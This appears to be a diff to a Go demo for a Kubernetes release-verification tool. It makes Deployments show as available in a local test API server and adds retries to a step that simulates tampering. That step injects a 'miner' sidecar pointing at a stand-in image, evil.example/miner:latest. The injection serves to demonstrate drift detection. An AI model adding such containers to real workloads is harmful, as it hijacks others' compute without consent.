@@ -39,10 +39,12 @@ import (
 	"k8s.io/apimachinery/pkg/runtime"
 	"k8s.io/apimachinery/pkg/types"
 	clientgoscheme "k8s.io/client-go/kubernetes/scheme"
+	"k8s.io/client-go/util/retry"
 	"sigs.k8s.io/controller-runtime/pkg/client"
 	"sigs.k8s.io/controller-runtime/pkg/envtest"
 
 	chartproofv1 "github.com/chartproof/chartproof/api/v1alpha1"
+	"github.com/chartproof/chartproof/internal/testworkload"
 )
 
 const ns = "demo"
@@ -75,6 +77,8 @@ type demo struct {
 	regHost    string // host:port
 	regRoot    string // the registry's storage directory
 	cosign     string
+	// stopRollouts stops marking Deployments available.
+	stopRollouts func()
 }
 
 func say(format string, a ...any) { fmt.Printf("==> "+format+"\n", a...) }
@@ -112,6 +116,15 @@ func (d *demo) run(hold bool, kubeconfigOut string) error {
 		return err
 	}
 	say("local API server at %s (kube-apiserver and etcd; no cluster needed)", cfg.Host)
+	// No deployment controller and no kubelet run here: Deployments are
+	// marked available as they would be once their pods run, so that the
+	// releases' health checks pass (internal/testworkload).
+	wctx, wcancel := context.WithCancel(context.Background())
+	d.stopRollouts = wcancel
+	if _, err := testworkload.Start(wctx, cfg); err != nil {
+		return err
+	}
+	say("Deployments are marked available as a deployment controller and kubelets would (none runs here): no pod starts")
 
 	// 2. A local OCI registry, storing blobs on disk.
 	if err := d.startRegistry(registryBin); err != nil {
@@ -280,12 +293,16 @@ func (d *demo) sidecar(name string) error {
 	ctx := context.Background()
 	var dep appsv1.Deployment
 	key := types.NamespacedName{Namespace: ns, Name: name + "-hello"}
-	if err := d.k8s.Get(ctx, key, &dep); err != nil {
-		return err
-	}
-	dep.Spec.Template.Spec.Containers = append(dep.Spec.Template.Spec.Containers, corev1.Container{Name: "miner", Image: "evil.example/miner:latest"})
 	start := time.Now()
-	if err := d.k8s.Update(ctx, &dep, client.FieldOwner("kubectl-edit")); err != nil {
+	// Read again and retried when its status was written in between.
+	if err := retry.RetryOnConflict(retry.DefaultRetry, func() error {
+		if err := d.k8s.Get(ctx, key, &dep); err != nil {
+			return err
+		}
+		dep.Spec.Template.Spec.Containers = append(dep.Spec.Template.Spec.Containers, corev1.Container{Name: "miner", Image: "evil.example/miner:latest"})
+		start = time.Now()
+		return d.k8s.Update(ctx, &dep, client.FieldOwner("kubectl-edit"))
+	}); err != nil {
 		return err
 	}
 	say("added a sidecar container \"miner\" to Deployment %s/%s, as `kubectl edit` would", ns, dep.Name)
@@ -523,6 +540,9 @@ func (d *demo) stop() {
 			_ = syscall.Kill(-p.Process.Pid, syscall.SIGKILL)
 			<-done
 		}
+	}
+	if d.stopRollouts != nil {
+		d.stopRollouts()
 	}
 	if d.env != nil {
 		_ = d.env.Stop()
